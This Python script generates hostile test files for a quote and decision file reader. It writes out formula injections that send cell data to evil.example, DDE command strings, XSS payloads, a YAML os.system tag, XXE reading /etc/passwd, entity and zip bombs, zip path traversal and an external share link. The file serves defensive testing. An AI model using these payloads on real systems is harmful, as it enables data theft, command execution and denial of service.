"""Hostile inputs for records and quotes, made into a folder: ``python make_hostile.py FOLDER [TEMPLATE.xlsx]``.

Nothing made here is kept in git. With a quote template its copy is what gets poisoned, so that a reader refuses a
file for what is wrong with it and not for being no template. ``README.md`` says what each must not do.
"""

from __future__ import annotations

import copy
import io
import json
import re
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

GOLDEN = Path(__file__).parents[1] / "golden" / "decision.en.json"
CELLS = (  # a spreadsheet takes each of these for a formula when it stands alone in a cell
    '=HYPERLINK("http://evil.example/?stolen="&A1,"Details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '\t=WEBSERVICE("http://evil.example/")',
    "\r=1+1",
    '\n=IMPORTXML("http://evil.example/","//a")',
    '=DDE("cmd";"/C calc";"A0")',
)
PAGES = (  # each leaves the place it is put in: text, attribute, script, comment, style, link, table, template
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</script><script>alert(1)</script><!--",
    "' onmouseover='alert(1)' x='",
    "</style><svg/onload=alert(1)>",
    "[here](javascript:alert(1)) ![x](http://evil.example/p.png)",
    "a | b\n| --- | --- |\n# heading\n\n<iframe src=http://evil.example>",
    "```\n# out of the fence\n```\n[x]: http://evil.example",
    "{{ 7*7 }}{% include 'x' %}${7*7}\u2028alert(1)\u2029",
)
CONTROLS = (  # what a terminal, a page or a log would act upon, or show as something else
    "paid\x00 nothing",
    "total \u202e000,1 EUR\u202c",
    "\x1b[2J\x1b[1;31mAPPROVED\x1b[0m",
    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "Provi\u200bder\u2066 A\u2069\ufeff",
    "line\x08\x08\x08\x08gone\r\nSigned-off-by: nobody",
    "\ud83d",  # half of a pair
    "\x9b31mred",
)
URLS = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "//evil.example/x",
)


def _places(decision: dict[str, Any]) -> list[tuple[dict[str, Any], str]]:
    """Every text of a decision that a vendor, a price page or a brief may have written."""
    of = {
        "options": ("title", "provider", "region", "model", "command"),
        "rejections": ("sentence", "example"),
        "assumptions": ("name", "why", "how_to_find_out", "by"),
        "warnings": ("sentence", "cure"),
        "flips": ("name", "sentence"),
        "measurements": ("what", "decides", "command"),
        "sources": ("what",),
    }
    found = [(decision, "name"), (decision, "answer"), (decision, "brief_text"), (decision["brief"], "name")]
    for group, names in of.items():
        for one in decision[group]:
            found += [(one, name) for name in names if name in one]
    for option in decision["options"]:
        found += [(line, "note") for line in option.get("cost_lines", ())]
    return found


def poisoned(payloads: tuple[str, ...], golden: Path = GOLDEN) -> dict[str, Any]:
    """The golden decision with a payload in every text, all of them used in turn."""
    decision: dict[str, Any] = json.loads(golden.read_text(encoding="utf-8"))
    for at, (one, name) in enumerate(_places(decision)):
        one[name] = payloads[at % len(payloads)]
    for at, source in enumerate(decision["sources"]):
        source["url"] = URLS[at % len(URLS)]
    return decision


def _decision(payloads: tuple[str, ...]) -> bytes:
    return json.dumps(poisoned(payloads)).encode()


def _numbers() -> bytes:
    """Figures no computation gives: infinite, no number, of 400 digits."""
    text = GOLDEN.read_text(encoding="utf-8")
    decision = json.loads(text)
    decision["options"][0]["cost_lines"][0]["money"] = "HUGE"
    decision["options"][0]["unit_cost"]["value"] = "INFINITE"
    decision["options"][0]["unit_cost"]["low"] = "NOTHING"
    made = json.dumps(decision)
    return (
        made.replace('"HUGE"', "9" * 400).replace('"INFINITE"', "1e999").replace('"NOTHING"', "NaN").encode()
    )


def _deep(levels: int = 100_000) -> bytes:
    return b'{"schema": "cabida/decision/1", "name": "deep", "brief": ' + b"[" * levels + b"]" * levels + b"}"


def _deep_yaml(levels: int = 5_000) -> bytes:
    return b"vendor: A\nnotes: " + b"[" * levels + b"]" * levels + b"\n"


def _aliases() -> bytes:
    """Nine anchors, each nine times the one before: 9^9 words once they are followed."""
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 10)]
    return ("\n".join(lines) + "\nvendor: *a9\n").encode()


def _tagged() -> bytes:
    return b"vendor: !!python/object/apply:os.system ['touch pwned']\nquote_id: Q-1\n"


def _huge_yaml() -> bytes:
    return (
        "vendor: A\npurpose: rent\ncurrency: USD\naccelerator: H100\n"
        f"accelerators_count: {'9' * 400}\nunit_price: 1e999 USD\nmonth_hours: .inf\nquantity: -64\n"
        f"uptime_ratio: 9{'0' * 300} %\nterm_months: .nan\ntotal_price: {'9' * 5_000} USD\n"
    ).encode()


def _csv() -> bytes:
    rows = zip(
        ("vendor", "quote_id", "accelerator", "region", "notes", "sla_exclusions"), CELLS, strict=False
    )
    quoted = [f'{name},"{value.replace(chr(34), chr(34) * 2)}"' for name, value in rows]
    return "\n".join(["field,value", *quoted, "unit_price,2.10 USD", "unit,gpu_hour"]).encode() + b"\n"


def _csv_nul() -> bytes:
    return b"field,value\nvendor,Acme\x00Corp\nunit_price,2.10 USD\x00\nunit,gpu_hour\n"


def _wide_csv() -> bytes:
    return b"field" + b",value" * 50_000 + b"\nvendor" + b",A" * 50_000 + b"\n"


def _text() -> bytes:
    lines = [
        f"Vendor: {CONTROLS[1]}",
        f"Unit price: USD 2.10 per GPU-hour {CONTROLS[0]}",
        f"Notes: {PAGES[0]}",
    ]
    lines += [
        f"Region: {CELLS[0]}",
        "Currency: " + "U" * 100_000,
        *(one for one in CONTROLS if one != "\ud83d"),
    ]
    return "\n".join(lines).encode()


ANSWERS = {"vendor": "Acme", "unit_price": "2.10 USD", "unit": "gpu_hour", "quantity": "64"}


def workbook(template: Path | None = None) -> bytes:
    """The template with a few answers in it, or a workbook of our own with a field and its value in each row."""
    from openpyxl import Workbook, load_workbook

    if template is None:
        book = Workbook()
        for row in (("field", "value"), *((name, "") for name in ANSWERS)):
            book.active.append(row)
    else:
        book = load_workbook(template)
    for name, cell in _named(book):
        if name in ANSWERS:
            cell.value = ANSWERS[name]
    return _saved(book)


def _named(book: Any) -> list[tuple[str, Any]]:
    """Fields and their cells: right of a field's name, or under the title of the column of values."""
    found = []
    for sheet in book.worksheets:
        titles = [str(cell.value).lower() for cell in sheet[1]]
        values = next((at + 1 for at, one in enumerate(titles) if one in ("value", "valor", "answer")), 0)
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                if isinstance(cell.value, str) and re.fullmatch(r"[a-z0-9_]+", cell.value):
                    found.append((cell.value, sheet.cell(cell.row, values or cell.column + 1)))
                    break
    return found


def _saved(book: Any) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _formulas(base: bytes) -> bytes:
    """Formulas where answers are asked for."""
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(base))
    formulas = ("=1+1", CELLS[0], "=[1]Prices!A1", '=WEBSERVICE("http://evil.example/")', "=A1:A9")
    for at, (_, cell) in enumerate([one for one in _named(book) if one[0] in ANSWERS]):
        cell.value = formulas[at % len(formulas)]
    return _saved(book)


def _rezipped(
    base: bytes, change: Callable[[str, bytes], bytes], added: dict[str, bytes] | None = None
) -> bytes:
    """The same workbook with some parts changed and others added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
        for name, content in (added or {}).items():
            new.writestr(name, content)
    return out.getvalue()


def _sheet(base: bytes, change: Callable[[bytes], bytes]) -> bytes:
    """The same workbook with the sheet changed that holds the answers."""
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(base))
    asked = next(cell.parent for name, cell in _named(book) if name in ANSWERS)
    part = f"xl/worksheets/sheet{book.worksheets.index(asked) + 1}.xml"
    return _rezipped(base, lambda name, was: change(was) if name == part else was)


def _bomb(base: bytes, mib: int = 96) -> bytes:
    """A sheet that swells a thousandfold when it is unpacked."""
    return _sheet(base, lambda was: was.replace(b"<sheetData>", b"<sheetData>" + b" " * (mib << 20), 1))


def _endless(base: bytes, row: int = 1_048_576) -> bytes:
    """A sheet that says it has a cell in its last row and column; beyond the last row if asked."""

    def change(was: bytes) -> bytes:
        start, end = was.index(b"<dimension"), was.index(b"/>", was.index(b"<dimension")) + 2
        was = was[:start] + b'<dimension ref="A1:XFD1048576"/>' + was[end:]
        last = f'<row r="{row}"><c r="XFD{row}" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
        return was.replace(b"</sheetData>", last.encode(), 1)

    return _sheet(base, change)


def _macro(base: bytes) -> bytes:
    """A macro project in the workbook. Its bytes are no program; that it is there is what counts."""

    def change(name: str, was: bytes) -> bytes:
        if name != "[Content_Types].xml":
            return was
        was = was.replace(
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        )
        part = b'<Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        return was.replace(b"</Types>", part + b"</Types>")

    return _rezipped(base, change, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0Attribute VB_Name"})


def _links(base: bytes) -> bytes:
    """A link to another workbook on a server, with values it left behind."""
    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"

    def change(name: str, was: bytes) -> bytes:
        if name == "[Content_Types].xml":
            part = b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
            part += b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'
            return was.replace(b"</Types>", part + b"</Types>")
        if name == "xl/_rels/workbook.xml.rels":
            part = b'<Relationship Id="rId99" Type="' + kind
            part += b'/externalLink" Target="externalLinks/externalLink1.xml"/>'
            return was.replace(b"</Relationships>", part + b"</Relationships>")
        if name == "xl/workbook.xml":
            part = b'<externalReferences><externalReference xmlns:r="' + kind
            part += b'" r:id="rId99"/></externalReferences>'
            return was.replace(b"</sheets>", b"</sheets>" + part)
        return was

    main = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    book = b"<externalLink " + main + b'><externalBook xmlns:r="' + kind + b'" r:id="rId1"><sheetNames>'
    book += b'<sheetName val="Prices"/></sheetNames></externalBook></externalLink>'
    rels = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    rels += b'<Relationship Id="rId1" Type="' + kind + b'/externalLinkPath" '
    rels += b'Target="file://///evil.example/share/prices.xlsx" TargetMode="External"/></Relationships>'
    added = {
        "xl/externalLinks/externalLink1.xml": book,
        "xl/externalLinks/_rels/externalLink1.xml.rels": rels,
    }
    return _rezipped(base, change, added)


def _entities(base: bytes) -> bytes:
    """A sheet with a document type: entities that multiply, and one that is a file of the reader's machine."""
    names = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    head = (
        b'<!DOCTYPE worksheet [<!ENTITY l0 "lol"><!ENTITY file SYSTEM "file:///etc/passwd">' + names + b"]>"
    )

    def change(was: bytes) -> bytes:
        at = was.index(b"<worksheet")
        cell = b'<row r="99999"><c r="A99999" t="inlineStr"><is><t>&l9;&file;</t></is></c></row></sheetData>'
        return was[:at] + head + was[at:].replace(b"</sheetData>", cell, 1)

    return _sheet(base, change)


def _slip(base: bytes) -> bytes:
    return _rezipped(base, lambda _name, was: was, {"../../pwned.txt": b"x", "/pwned.txt": b"x"})


def made(template: Path | None = None) -> dict[str, Callable[[], bytes]]:
    """Name of each hostile file and what makes it, for a test to go over."""
    base = workbook(template)
    return {
        "decision-cells.json": lambda: _decision(CELLS),
        "decision-page.json": lambda: _decision(PAGES),
        "decision-controls.json": lambda: _decision(CONTROLS),
        "decision-numbers.json": _numbers,
        "decision-deep.json": _deep,
        "quote-deep.yaml": _deep_yaml,
        "quote-aliases.yaml": _aliases,
        "quote-tagged.yaml": _tagged,
        "quote-huge.yaml": _huge_yaml,
        "quote-cells.csv": _csv,
        "quote-nul.csv": _csv_nul,
        "quote-wide.csv": _wide_csv,
        "quote-controls.txt": _text,
        "quote-formulas.xlsx": lambda: _formulas(base),
        "quote-bomb.xlsx": lambda: _bomb(base),
        "quote-last-row.xlsx": lambda: _endless(base),
        "quote-billion-rows.xlsx": lambda: _endless(base, row=1_000_000_000),
        "quote-macro.xlsm": lambda: _macro(base),
        "quote-macro-renamed.xlsx": lambda: _macro(base),
        "quote-links.xlsx": lambda: _links(base),
        "quote-entities.xlsx": lambda: _entities(base),
        "quote-slip.xlsx": lambda: _slip(base),
        "quote-cut.xlsx": lambda: copy.copy(base)[: len(base) // 2],
    }


def make(folder: Path, template: Path | None = None) -> list[Path]:
    """Writes every hostile file into a folder."""
    folder.mkdir(parents=True, exist_ok=True)
    files = []
    for name, write in made(template).items():
        files.append(folder / name)
        files[-1].write_bytes(write())
    return files


if __name__ == "__main__":
    for one in make(Path(sys.argv[1]), Path(sys.argv[2]) if len(sys.argv) > 2 else None):
        sys.stdout.write(f"{one.stat().st_size:>9,}  {one.name}\n")
